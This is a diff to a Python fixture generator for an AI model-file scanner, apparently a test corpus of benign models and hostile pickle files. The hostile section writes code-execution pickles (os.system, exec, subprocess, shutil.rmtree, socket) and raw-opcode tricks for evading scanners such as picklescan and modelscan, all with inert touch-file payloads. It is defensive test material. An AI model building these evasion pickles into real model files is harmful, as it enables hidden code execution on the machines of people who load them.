@@ -12,6 +12,11 @@ their first bytes but are not), hazards (malformed headers that must produce an
 error, never a model and never a crash) and tests/fixtures/expected.json, the
 answer key the Rust tests assert against.
 
+It also writes tests/fixtures/safety/ (make_safety): benign models and one
+hostile file per code-execution / scanner-evasion technique, with its own
+expected.json. The hostile files are written from raw opcodes or __reduce__
+stand-ins and are never loaded.
+
 Run it through scripts/make-fixtures.sh, which sets up the pinned venv and the
 environment (TZ, PYTHONHASHSEED, KERAS_BACKEND, ...).
 
@@ -1232,6 +1237,1240 @@ def verify(out: Path, expected: dict):
 
 
 # --------------------------------------------------------------------------
+# Safety corpus: tests/fixtures/safety/{benign,hostile}/ + expected.json
+# --------------------------------------------------------------------------
+# benign/  real models, written by their libraries (or exactly the way
+#          torch.save writes them, with the emulation above).
+# hostile/ one file per code-execution / scanner-evasion technique.
+#
+# NOTHING in hostile/ is ever loaded by this script: no pickle.load, no
+# joblib.load, no np.load(allow_pickle=True), no keras/tf loading. The pickles
+# are written by _AsmPickler (pickle's own pure-Python pickler; _G names any
+# module.qualname without importing it, _Call is an object whose __reduce__
+# returns (callable, args), so pickling only writes the call down) or as raw
+# opcode bytes. The self-check (verify_safety) only disassembles them with
+# pickletools.genops. Every payload is inert: `touch /tmp/aiscout-pwned-<name>`
+# (or a read of /etc/passwd, a connection to 127.0.0.1:9); none reaches the
+# network.
+SAFETY_PWN = "/tmp/aiscout-pwned-"
+# Files whose bytes the libraries randomise on every run (see README "Determinism").
+SAFETY_NONDETERMINISTIC = ("fingerprint.pb",)
+
+
+def _pwn(tech: str) -> str:
+    return f"touch {SAFETY_PWN}{tech}"
+
+
+class _G:
+    """A reference to module.qualname, pickled as GLOBAL / STACK_GLOBAL without importing it."""
+
+    def __init__(self, module: str, name: str):
+        self.module, self.name = module, name
+
+    def __call__(self, *a):  # pickle's save_reduce wants a callable; never called
+        raise RuntimeError("fixture stand-in, never called")
+
+
+class _Call:
+    """Pickles as REDUCE(fn, args): what a malicious __reduce__ returns."""
+
+    def __init__(self, fn, *args):
+        self.fn, self.args = fn, args
+
+    def __reduce__(self):
+        return (self.fn, self.args)
+
+    def __call__(self, *a):  # may itself be the callable of an outer _Call; never called
+        raise RuntimeError("fixture stand-in, never called")
+
+
+class _AsmPickler(pickle._Pickler):
+    """The pure-Python pickler, plus _G for arbitrary global names.
+
+    Output is byte-for-byte what pickle.dumps writes for a __reduce__ whose
+    callable lives at _G.module/_G.name (GLOBAL for protocol < 4, two
+    memoized SHORT_BINUNICODE + STACK_GLOBAL for protocol >= 4).
+    """
+
+    def save(self, obj, save_persistent_id=True):
+        if isinstance(obj, _G):
+            self.framer.commit_frame()
+            x = self.memo.get(id(obj))
+            if x is not None:
+                self.write(self.get(x[0]))
+                return
+            if self.proto >= 4:
+                self.save(obj.module)
+                self.save(obj.name)
+                self.write(pickle.STACK_GLOBAL)
+            else:
+                self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
+            self.memoize(obj)
+            return
+        return super().save(obj, save_persistent_id)
+
+
+def asm_pickle(obj, proto: int) -> bytes:
+    buf = io.BytesIO()
+    _AsmPickler(buf, protocol=proto).dump(obj)
+    return buf.getvalue()
+
+
+def _u8(n):
+    return struct.pack("<B", n)
+
+
+def _sbu(s: str) -> bytes:
+    """SHORT_BINUNICODE"""
+    b = s.encode()
+    return pickle.SHORT_BINUNICODE + _u8(len(b)) + b
+
+
+# -- static pickle analysis, used only to self-check the fixtures ----------------
+def static_pickle_globals(data: bytes, max_pickles: int = 16) -> tuple[list[str], bool]:
+    """The imports of every pickle in `data` (concatenated pickles too), found
+    with pickletools.genops and a symbolic stack/memo: nothing is executed.
+    Returns (["module.name" | "?.?" for unresolvable STACK_GLOBAL], parse_error)."""
+    import pickletools
+
+    found: list[str] = []
+    f = io.BytesIO(data)
+    for _ in range(max_pickles):
+        if f.tell() >= len(data):
+            break
+        stack: list = []
+        marks: list[int] = []
+        memo: dict = {}
+        try:
+            for op, arg, _pos in pickletools.genops(f):
+                name = op.name
+                if name == "MARK":
+                    marks.append(len(stack))
+                    continue
+                if name in ("GLOBAL", "INST"):
+                    found.append(".".join(arg.split(" ", 1)))
+                if name == "STACK_GLOBAL":
+                    nm, mod = stack.pop(), stack.pop()
+                    ok = isinstance(mod, str) and isinstance(nm, str) and not isinstance(mod, _Opaque) and not isinstance(nm, _Opaque)
+                    found.append(f"{mod}.{nm}" if ok else "?.?")
+                    stack.append(_Opaque("global"))
+                    continue
+                if name in ("PUT", "BINPUT", "LONG_BINPUT"):
+                    memo[int(arg)] = stack[-1]
+                    continue
+                if name == "MEMOIZE":
+                    memo[len(memo)] = stack[-1]
+                    continue
+                if name in ("GET", "BINGET", "LONG_BINGET"):
+                    stack.append(memo.get(int(arg), _Opaque("missing-memo")))
+                    continue
+                if name in ("STRING", "BINSTRING", "SHORT_BINSTRING", "UNICODE", "BINUNICODE",
+                            "SHORT_BINUNICODE", "BINUNICODE8"):
+                    stack.append(str(arg))
+                    continue
+                before = list(op.stack_before)
+                if pickletools.markobject in before:
+                    cut = marks.pop() if marks else 0
+                    del stack[cut:]
+                    before = before[: before.index(pickletools.markobject)]
+                for _b in before:
+                    if stack:
+                        stack.pop()
+                for _a in op.stack_after:
+                    stack.append(_Opaque(name))
+                if name == "STOP":
+                    break
+        except Exception:
+            return found, True
+    return found, False
+
+
+class _Opaque(str):
+    """A stack value the static analysis does not know (never a usable name)."""
+
+
+# -- zip, 7z writers (byte-exact control over headers) ----------------------------
+def zip_bytes(entries: list[dict], cd_order: list[int] | None = None) -> bytes:
+    """Build a zip by hand.
+
+    entry keys: name, data (the bytes stored after the local header), method (0/8),
+    usize (uncompressed size, default len(data)), crc (default crc32(data)),
+    flags (default 0), local_sig (default PK\\x03\\x04), align (pad the payload to
+    this boundary with a torch-style 'FB' extra field; default 64).
+    cd_order: order of the central directory records (default: file order).
+    """
+    out = bytearray()
+    recs = []
+    for e in entries:
+        name = e["name"].encode()
+        data = e["data"]
+        crc = e.get("crc", zlib.crc32(data))
+        usize = e.get("usize", len(data))
+        flags, method = e.get("flags", 0), e.get("method", 0)
+        align = e.get("align", 64)
+        extra = b""
+        if align:
+            start = len(out) + 30 + len(name) + 4
+            pad = (-start) % align
+            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
+        off = len(out)
+        out += struct.pack("<4sHHHHHIIIHH", e.get("local_sig", b"PK\x03\x04"), 20, flags, method, 0, 0,
+                           crc, len(data), usize, len(name), len(extra))
+        out += name + extra + data
+        recs.append((name, flags, method, crc, len(data), usize, off))
+    cd_start = len(out)
+    for i in cd_order if cd_order is not None else range(len(recs)):
+        name, flags, method, crc, csize, usize, off = recs[i]
+        out += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 0,
+                           crc, csize, usize, len(name), 0, 0, 0, 0, 0, off)
+        out += name
+    cd_size = len(out) - cd_start
+    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(recs), len(recs), cd_size, cd_start, 0)
+    return bytes(out)
+
+
+def _7z_number(v: int) -> bytes:
+    """7z's variable-length NUMBER (7zFormat.txt)."""
+    for i in range(9):
+        if i == 8 or v < (1 << (7 * (i + 1))):
+            if i == 8:
+                return b"\xff" + v.to_bytes(8, "little")
+            first = ((0xFF << (8 - i)) & 0xFF) | (v >> (8 * i))
+            return bytes([first]) + (v & ((1 << (8 * i)) - 1)).to_bytes(i, "little")
+    raise AssertionError
+
+
+def sevenzip_bytes(name: str, data: bytes) -> bytes:
+    """A 7z archive holding one file, LZMA2-compressed (7-Zip's default coder),
+    written by hand from 7zFormat.txt: signature header, packed stream, plain
+    (unencoded) header. The packed stream is liblzma's raw LZMA2 output."""
+    import lzma
+
+    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]
+    packed = lzma.compress(data, format=lzma.FORMAT_RAW, filters=filters)
+    n = _7z_number
+    fname = name.encode("utf-16-le") + b"\0\0"
+    header = (
+        b"\x01"                                       # kHeader
+        + b"\x04"                                     # kMainStreamsInfo
+        + b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"   # kPackInfo
+        + b"\x07" + b"\x0b" + n(1) + b"\x00"          # kUnPackInfo, kFolder, 1 folder, not external
+        # 1 coder, flags 0x21 = id size 1 + has properties; id 21 = LZMA2;
+        # 1 property byte 16: dictionary 2 << (16 / 2 + 11) = 1 MiB
+        + n(1) + b"\x21" + b"\x21" + n(1) + b"\x10"
+        + b"\x0c" + n(len(data))                      # kCodersUnPackSize
+        + b"\x00"                                     # kEnd (UnPackInfo)
+        + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00"  # kSubStreamsInfo: kCRC
+        + b"\x00"                                     # kEnd (StreamsInfo)
+        + b"\x05" + n(1)                              # kFilesInfo, 1 file
+        + b"\x11" + n(1 + len(fname)) + b"\x00" + fname   # kName, not external
+        + b"\x00"                                     # kEnd (FilesInfo)
+        + b"\x00"                                     # kEnd (Header)
+    )
+    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
+    sig = b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
+    return sig + packed + header
+
+
+# -- torch emulation helpers (same layout as write_torch_zip / write_torch_legacy) --
+class _Parameter:
+    """Stands in for torch.nn.Parameter; reduces like Parameter.__reduce_ex__
+    (no extra state): torch._utils._rebuild_parameter(data, requires_grad, OrderedDict())."""
+
+    def __init__(self, array: np.ndarray, requires_grad: bool = True):
+        self.data = _Tensor(array)
+        self.requires_grad = requires_grad
+
+    def __reduce_ex__(self, protocol):
+        return (sys.modules["torch._utils"]._rebuild_parameter, (self.data, self.requires_grad, collections.OrderedDict()))
+
+
+@contextlib.contextmanager
+def fake_torch_with_parameters():
+    """fake_torch_modules() plus torch._utils._rebuild_parameter."""
+    with fake_torch_modules() as torch_mod:
+        def _rebuild_parameter(*args):  # pragma: no cover - never called
+            raise RuntimeError("fake torch")
+
+        _rebuild_parameter.__module__ = "torch._utils"
+        _rebuild_parameter.__qualname__ = "_rebuild_parameter"
+        sys.modules["torch._utils"]._rebuild_parameter = _rebuild_parameter
+        yield torch_mod
+
+
+def torch_zip_records(obj) -> list[tuple[str, bytes]]:
+    """The records torch.save writes, in its order, without the archive root."""
+    with fake_torch_with_parameters() as torch_mod:
+        buf = io.BytesIO()
+        p = _TorchPickler(buf, torch_mod, legacy=False)
+        p.dump(obj)
+        data_pkl = buf.getvalue()
+    records = [("data.pkl", data_pkl), ("byteorder", b"little")]
+    for key in sorted(p.storages):
+        arr = p.storages[key].array
+        records.append((f"data/{key}", arr.astype(arr.dtype.newbyteorder("<")).tobytes()))
+    records.append(("version", b"3\n"))
+    name_hash = int.from_bytes(hashlib.sha256("".join(n for n, _ in records).encode()).digest()[:8], "little")
+    crc = 0
+    for _, d in records:
+        crc = zlib.crc32(d, crc)
+    records.append((".data/serialization_id", f"{name_hash:020d}{crc:020d}".encode()))
+    return records
+
+
+def torch_legacy_bytes(obj, first_pickle: bytes | None = None) -> bytes:
+    """_legacy_save's byte stream; first_pickle replaces the magic-number pickle."""
+    f = io.BytesIO()
+    if first_pickle is None:
+        pickle.dump(MAGIC_NUMBER, f, protocol=2)
+    else:
+        f.write(first_pickle)
+    pickle.dump(PROTOCOL_VERSION, f, protocol=2)
+    pickle.dump(dict(protocol_version=PROTOCOL_VERSION, little_endian=True,
+                     type_sizes=dict(short=2, int=4, long=4)), f, protocol=2)
+    with fake_torch_modules() as torch_mod:
+        p = _TorchPickler(f, torch_mod, legacy=True, legacy_key_base=94_251_672_104_960)
+        p.dump(obj)
+    keys = sorted(p.storages)
+    pickle.dump(keys, f, protocol=2)
+    for key in keys:
+        arr = p.storages[key].array
+        f.write(struct.pack("<q", arr.size))
+        f.write(arr.astype(arr.dtype.newbyteorder("<")).tobytes())
+    return f.getvalue()
+
+
+def _small_state_dict(tag: str) -> collections.OrderedDict:
+    r = rng(tag)
+    sd = collections.OrderedDict()
+    sd["fc.weight"] = _Tensor(r.standard_normal((2, 4)).astype(np.float32))
+    sd["fc.bias"] = _Tensor(np.zeros(2, np.float32))
+    return sd
+
+
+def _lambda_code(src: str) -> types.CodeType:
+    """Compile (never run) `src`, a lambda expression, and return the lambda's code."""
+    co = compile(src, "<aiscout-fixture>", "eval")
+    return next(c for c in co.co_consts if isinstance(c, types.CodeType))
+
+
+def _keras2_func_dump(code: types.CodeType) -> str:
+    """keras 2 generic_utils.func_dump: base64 of marshal.dumps(func.__code__)."""
+    import codecs
+    import marshal
+
+    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")
+
+
+def _keras2_layers(function_json) -> list:
+    """keras 2.x Sequential config: InputLayer, Lambda (with the given function), Dense."""
+    return [
+        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
+                                                "sparse": False, "ragged": False, "name": "input_1"}},
+        {"class_name": "Lambda", "config": {
+            "name": "lambda", "trainable": True, "dtype": "float32",
+            "function": function_json, "function_type": "lambda", "module": "__main__",
+            "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
+            "arguments": {}}},
+        {"class_name": "Dense", "config": {
+            "name": "dense", "trainable": True, "dtype": "float32", "units": 2, "activation": "linear",
+            "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
+            "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
+            "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
+            "bias_constraint": None}},
+    ]
+
+
+class SafetyExpected:
+    def __init__(self, root: Path):
+        self.root = root
+        self.benign: list[dict] = []
+        self.hostile: list[dict] = []
+
+    def b(self, path: Path, fmt: str):
+        self.benign.append({"path": path.relative_to(self.root).as_posix(), "format": fmt})
+
+    def h(self, path: Path, fmt: str, technique: str, source: str, min_verdict: str, imports=(), **extra):
+        assert min_verdict in ("dangerous", "suspicious")
+        e = {"path": path.relative_to(self.root).as_posix(), "format": fmt, "technique": technique,
+             "source": source, "min_verdict": min_verdict, "imports": list(imports)}
+        e.update(extra)
+        self.hostile.append(e)
+
+    def finish(self) -> dict:
+        return {
+            "benign": sorted(self.benign, key=lambda e: e["path"]),
+            "hostile": sorted(self.hostile, key=lambda e: e["path"]),
+        }
+
+
+# -- benign -------------------------------------------------------------------------
+def make_safety_benign(d: Path, sx: SafetyExpected):
+    import joblib
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import StandardScaler
+    from sklearn.svm import SVC
+
+    X = np.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.2, 0.9], [0.9, 0.1], [0.1, 0.1], [0.8, 0.8]])
+    y = np.array([0, 1, 1, 1, 1, 1, 0, 1])
+    logreg = fit_logreg()
+    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
+    pipe = Pipeline([("scale", StandardScaler()), ("svc", SVC(kernel="rbf", C=1.0, random_state=0))]).fit(X, y)
+    for name, est, compress in (
+        ("sk_logreg.joblib", logreg, 0),
+        ("sk_forest.joblib", forest, 0),
+        ("sk_pipeline_svc.joblib", pipe, 0),
+        ("sk_pipeline_svc_zlib.joblib", pipe, ("zlib", 3)),
+        ("sk_forest_lz4.joblib", forest, ("lz4", 3)),
+    ):
+        joblib.dump(est, d / name, compress=compress)
+        sx.b(d / name, "joblib")
+
+    # torch.save (emulated): plain state dict (root archive/), an nn.Module
+    # state_dict with _metadata and an int64 num_batches_tracked, legacy format.
+    write_torch_zip(d / "torch_state_dict.pt", "archive", _small_state_dict("safety-sd"))
+    sx.b(d / "torch_state_dict.pt", "pytorch")
+    r = rng("safety-cnn")
+    sd = collections.OrderedDict()
+    sd["conv.weight"] = _Tensor(r.standard_normal((2, 1, 3, 3)).astype(np.float32))
+    sd["conv.bias"] = _Tensor(np.zeros(2, np.float32))
+    sd["bn.weight"] = _Tensor(np.ones(2, np.float32))
+    sd["bn.bias"] = _Tensor(np.zeros(2, np.float32))
+    sd["bn.running_mean"] = _Tensor(np.zeros(2, np.float32))
+    sd["bn.running_var"] = _Tensor(np.ones(2, np.float32))
+    sd["bn.num_batches_tracked"] = _Tensor(np.array(7, np.int64))
+    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("conv", {"version": 1}), ("bn", {"version": 2})])
+    write_torch_zip(d / "torch_cnn.pth", "torch_cnn", sd)
+    sx.b(d / "torch_cnn.pth", "pytorch")
+    write_torch_legacy(d / "torch_legacy.pt", _small_state_dict("safety-legacy"))
+    sx.b(d / "torch_legacy.pt", "pytorch_legacy")
+    # a training checkpoint: {"epoch", "model": state_dict, "ema": nn.Parameter, ...};
+    # the Parameter pickles as torch._utils._rebuild_parameter.
+    r = rng("safety-ckpt")
+    ckpt = {"epoch": 3, "model": _small_state_dict("safety-ckpt-sd"),
+            "ema": _Parameter(r.standard_normal((2, 4)).astype(np.float32)),
+            "lr": 0.001, "best_metric": 0.875}
+    p = d / "torch_checkpoint.pt"
+    with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:  # same layout as write_torch_zip
+        for name, data in torch_zip_records(ckpt):
+            full = f"torch_checkpoint/{name}"
+            zf.writestr(_torch_zip_info(zf, full, len(data)), data)
+    sx.b(p, "pytorch")
+
+    # numpy
+    r = rng("safety-numpy")
+    np.save(d / "weights.npy", r.standard_normal((3, 4)).astype(np.float32))
+    sx.b(d / "weights.npy", "numpy")
+    with frozen_clock():
+        np.savez(d / "bundle.npz", W=r.standard_normal((4, 2)).astype(np.float32), steps=np.arange(3, dtype=np.int64))
+    sx.b(d / "bundle.npz", "numpy")
+
+    # plain pickles: builtins and collections only (these are the globals a
+    # benign pickle legitimately has: __builtin__/builtins set, frozenset,
+    # bytearray, complex, slice, list; _codecs.encode for bytes at protocol < 3;
+    # collections OrderedDict/defaultdict).
+    for proto in (0, 2, 4, 5):
+        p = d / f"builtins_p{proto}.pkl"
+        p.write_bytes(pickle.dumps(_benign_builtins_obj(), protocol=proto))
+        sx.b(p, "pickle")
+
+    # keras (Dense layers only), safetensors, gguf, onnx
+    import keras
+    from keras.src.saving import saving_lib, serialization_lib
+
+    keras.utils.set_random_seed(SEED % 2**31)
+    model = keras.Sequential(
+        [keras.Input((4,), name="features"), keras.layers.Dense(3, activation="relu", name="hidden"),
+         keras.layers.Dense(2, name="logits")],
+        name="safety_dense",
+    )
+    with frozen_clock(datetime_modules=[saving_lib], stable_id_modules=[serialization_lib]):
+        model.save(d / "dense.keras")
+        model.save(d / "dense.h5")
+    sx.b(d / "dense.keras", "keras_v3")
+    sx.b(d / "dense.h5", "keras_h5")
+
+    from safetensors.numpy import save_file
+
+    r = rng("safety-st")
+    save_file({"w": r.standard_normal((4, 4)).astype(np.float32), "b": np.zeros(4, np.float16)},
+              str(d / "tiny.safetensors"), metadata={"format": "pt"})
+    sx.b(d / "tiny.safetensors", "safetensors")
+    gguf_llama(d / "tiny.gguf", "Safety Fixture", n_embd=8, tag="safety-gguf")
+    sx.b(d / "tiny.gguf", "gguf")
+    p = d / "tiny.onnx"
+    p.write_bytes(_onnx_linear("safety-onnx").SerializeToString())
+    sx.b(p, "onnx")
+
+
+def _benign_builtins_obj():
+    dd = collections.defaultdict(list)
+    dd["a"].append(1)
+    return {
+        "version": 1,
+        "name": "tiny-classifier",
+        "weights": [[0.25, -0.5], [1.0, 2.0]],
+        "shape": (2, 2),
+        "labels": {"cat", "dog"},
+        "frozen": frozenset({1, 2, 3}),
+        "raw": b"\x00\x01\x02",
+        "buf": bytearray(b"abc"),
+        "z": complex(1.0, -2.0),
+        "window": slice(0, 10, 2),
+        "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
+        "counts": dd,
+        "big": 2**70,
+        "none": None,
+        "flags": [True, False],
+        "text": "héllo",
+    }
+
+
+def _onnx_linear(tag: str, external=None):
+    """A MatMul+Add graph; with `external`, W is an EXTERNAL tensor at that location."""
+    from onnx import TensorProto, helper, numpy_helper
+
+    r = rng(tag)
+    W = r.standard_normal((4, 3)).astype(np.float32)
+    B = np.zeros(3, np.float32)
+    w_t = numpy_helper.from_array(W, "W")
+    if external is not None:
+        w_t = TensorProto(name="W", dims=[4, 3], data_type=TensorProto.FLOAT)
+        w_t.data_location = TensorProto.EXTERNAL
+        for k, v in (("location", external), ("offset", "0"), ("length", "48")):
+            e = w_t.external_data.add()
+            e.key, e.value = k, v
+    graph = helper.make_graph(
+        [helper.make_node("MatMul", ["x", "W"], ["xw"]), helper.make_node("Add", ["xw", "B"], ["y"])],
+        "tiny_linear",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
+        [w_t, numpy_helper.from_array(B, "B")],
+    )
+    return helper.make_model(graph, producer_name="aiscout-fixtures", producer_version="0.1.0",
+                             opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
+
+
+# -- hostile ------------------------------------------------------------------------
+def make_safety_hostile(d: Path, sx: SafetyExpected):
+    import code
+    import multiprocessing.util
+    import runpy
+    import shutil as _shutil
+    import socket
+    import subprocess
+    import webbrowser
+
+    H = sx.h
+
+    def put(name: str, data: bytes) -> Path:
+        p = d / name
+        p.write_bytes(data)
+        return p
+
+    # 1. direct execution primitives --------------------------------------------
+    for proto in (0, 2, 4):
+        t = f"os_system_p{proto}"
+        p = put(f"{t}.pkl", asm_pickle(_Call(_G("os", "system"), _pwn(t)), proto))
+        H(p, "pickle", f"os.system via __reduce__, protocol {proto} ({'STACK_GLOBAL' if proto >= 4 else 'GLOBAL'})",
+          "new", "dangerous", ["os.system"])
+    t = "posix_system_p2"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(os.system, _pwn(t)), protocol=2))
+    H(p, "pickle", "os.system pickled on Linux: GLOBAL 'posix system' (what pickle.dumps of a real __reduce__ writes)",
+      "new", "dangerous", ["posix.system"])
+    t = "subprocess_popen"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(subprocess.Popen, ["touch", SAFETY_PWN + t]), protocol=4))
+    H(p, "pickle", "subprocess.Popen([...]) via __reduce__", "new", "dangerous", ["subprocess.Popen"])
+    t = "builtins_eval_p2"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(eval, f"__import__('os').system({_pwn(t)!r})"), protocol=2))
+    H(p, "pickle", "builtins.eval of a Python string; protocol 2 writes it as GLOBAL '__builtin__ eval'",
+      "new", "dangerous", ["__builtin__.eval"])
+    t = "builtins_exec_p4"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(exec, f"import os; os.system({_pwn(t)!r})"), protocol=4))
+    H(p, "pickle", "builtins.exec of a Python string", "new", "dangerous", ["builtins.exec"])
+    t = "builtins_import_getattr"
+    expr = _Call(_Call(getattr, _Call(__import__, "os"), "system"), _pwn(t))
+    p = put(f"{t}.pkl", pickle.dumps(expr, protocol=4))
+    H(p, "pickle", "getattr(__import__('os'), 'system')(cmd): only builtins globals", "new", "dangerous",
+      ["builtins.getattr", "builtins.__import__"])
+    t = "runpy_run_code"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(runpy._run_code, f"import os; os.system({_pwn(t)!r})", {}), protocol=4))
+    H(p, "pickle", "runpy._run_code(source, globals) executes the source", "picklescan Malicious14", "dangerous",
+      ["runpy._run_code"])
+    t = "webbrowser_open"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(webbrowser.open, f"file://{SAFETY_PWN}{t}"), protocol=4))
+    H(p, "pickle", "webbrowser.open(url) starts an external program", "new", "dangerous", ["webbrowser.open"])
+    t = "socket_create_connection"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(socket.create_connection, ("127.0.0.1", 9)), protocol=4))
+    H(p, "pickle", "socket.create_connection(('127.0.0.1', 9)): network from a model file", "picklescan Malicious6",
+      "dangerous", ["socket.create_connection"])
+    t = "shutil_rmtree"
+    p = put(f"{t}.pkl", pickle.dumps(_Call(_shutil.rmtree, f"{SAFETY_PWN}{t}-target", True), protocol=4))
+    H(p, "pickle", "shutil.rmtree(path, ignore_errors=True): destructive file operation", "new", "dangerous",
+      ["shutil.rmtree"])
+
+    # 2. memo / STACK_GLOBAL confusion (raw opcodes) ---------------------------
+    P, S = pickle, _sbu
+    t = "memo_binput_memoize_mix"
+    # MEMOIZE stores at len(memo), so after BINPUT 1 it overwrites key 1; a
+    # scanner that numbers MEMOIZE by counting them resolves 'system.OrderedDict'.
+    data = (P.PROTO + b"\x04"
+            + S("collections") + P.BINPUT + b"\x01" + P.POP
+            + S("os") + P.MEMOIZE + P.POP                      # memo[1] = 'os'
+            + S("OrderedDict") + P.BINPUT + b"\x02" + P.POP
+            + S("system") + P.MEMOIZE + P.POP                  # memo[2] = 'system'
+            + P.BINGET + b"\x01" + P.LONG_BINGET + struct.pack("<I", 2) + P.STACK_GLOBAL
+            + S(_pwn(t)) + P.TUPLE1 + P.REDUCE + P.STOP)
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "STACK_GLOBAL operands from BINGET/LONG_BINGET; MEMOIZE after BINPUT overwrites keys 1 and 2 "
+      "(decoys 'collections'/'OrderedDict')", "picklescan#14", "dangerous", ["os.system"])
+    t = "memo_put_get_decoys_p0"
+    data = b"".join([
+        P.UNICODE + b"os\n", P.PUT + b"2\n", P.POP,
+        P.UNICODE + b"system\n", P.PUT + b"3\n", P.POP,
+        P.UNICODE + b"torch\n", P.PUT + b"0\n", P.POP,
+        P.UNICODE + b"LongStorage\n", P.PUT + b"1\n", P.POP,
+        P.GET + b"2\n", P.GET + b"3\n", P.STACK_GLOBAL,
+        P.MARK, P.UNICODE + _pwn(t).encode() + b"\n", P.TUPLE, P.REDUCE, P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "text PUT/GET memo, the last string literals before STACK_GLOBAL are decoys 'torch LongStorage'",
+      "picklescan#22", "dangerous", ["os.system"])
+    t = "memo_build_setattr"
+    # modelscan#85: BUILD's slot state setattr()s 'os'/'system' onto numpy.prod,
+    # GLOBAL 'numpy prod.a' (protocol >= 4 resolves dotted names) fetches them,
+    # PUT/GET hands them to STACK_GLOBAL. No string literal precedes it.
+    data = b"".join([
+        P.PROTO, b"\x04",
+        P.GLOBAL, b"numpy\nprod\n",
+        P.NONE, P.MARK, S("a"), S("os"), P.DICT, P.TUPLE2, P.BUILD,
+        P.NONE, P.MARK, S("b"), S("system"), P.DICT, P.TUPLE2, P.BUILD,
+        P.POP,
+        P.GLOBAL, b"numpy\nprod.a\n", P.BINPUT, b"\x00",
+        P.GLOBAL, b"numpy\nprod.b\n", P.BINPUT, b"\x01",
+        P.POP, P.POP,
+        P.BINGET, b"\x00", P.BINGET, b"\x01", P.STACK_GLOBAL,
+        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "BUILD setattr()s 'os'/'system' on numpy.prod; GLOBAL 'numpy prod.a'/'prod.b' + BINPUT/BINGET "
+      "feed STACK_GLOBAL, so its operands are not string literals (resolves to os.system at load)",
+      "modelscan#85", "dangerous", [], resolves_to="os.system")
+    t = "stack_global_bytes_operand"
+    data = b"".join([
+        P.PROTO, b"\x04",
+        S("os"), P.MEMOIZE, S("system"), P.MEMOIZE, P.STACK_GLOBAL, P.MEMOIZE,
+        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.POP,
+        P.SHORT_BINBYTES, b"\x02os", P.MEMOIZE, P.SHORT_BINBYTES, b"\x06system", P.MEMOIZE,
+        P.BINGET, b"\x03", P.BINGET, b"\x04", P.STACK_GLOBAL, P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "os.system call, then a STACK_GLOBAL whose operands are SHORT_BINBYTES fetched from the memo "
+      "(a scanner that crashes on it must not drop the os.system it already saw)", "modelscan#338 §5",
+      "dangerous", ["os.system"])
+    t = "stack_global_int_operand"
+    data = b"".join([
+        P.PROTO, b"\x04",
+        P.GLOBAL, b"os\nsystem\n", S(_pwn(t)), P.TUPLE1, P.REDUCE, P.POP,
+        P.BININT, struct.pack("<i", 42), P.MEMOIZE, S("os"), P.MEMOIZE,
+        P.BINGET, b"\x00", P.BINGET, b"\x01", P.STACK_GLOBAL, P.BININT1, b"\x42", P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "os.system call, then STACK_GLOBAL with an int module operand from the memo (type confusion)",
+      "modelscan#338 §5 / picklescan type-confusion", "dangerous", ["os.system"])
+    t = "stack_global_missing_memo"
+    data = b"".join([
+        P.PROTO, b"\x04",
+        S("os"), P.MEMOIZE,
+        P.BINGET, b"\x00", P.BINGET, b"\x07", P.STACK_GLOBAL,
+        S(_pwn(t)), P.TUPLE1, P.REDUCE, P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "STACK_GLOBAL operand from a memo key that was never stored (malformed; must not crash scanners)",
+      "picklescan keyerror-exploit", "suspicious", [])
+    t = "binstring_names_p1"
+    data = b"".join([
+        P.PROTO, b"\x04",
+        P.SHORT_BINSTRING, b"\x02os", P.BINSTRING, struct.pack("<i", 6), b"system", P.STACK_GLOBAL,
+        P.SHORT_BINSTRING, _u8(len(_pwn(t))), _pwn(t).encode(), P.TUPLE1, P.REDUCE, P.STOP])
+    p = put(f"{t}.pkl", data)
+    H(p, "pickle", "STACK_GLOBAL names in protocol-1 SHORT_BINSTRING/BINSTRING (decoded as str by the unpickler)",
+      "GHSA-9gvj-pp9x-gcfr (variant)", "dangerous", ["os.system"])
+
+    # 3. primitives missing from denylists -------------------------------------
+    def prim(t, fn, *args, technique, source, imports, proto=4, verdict="dangerous"):
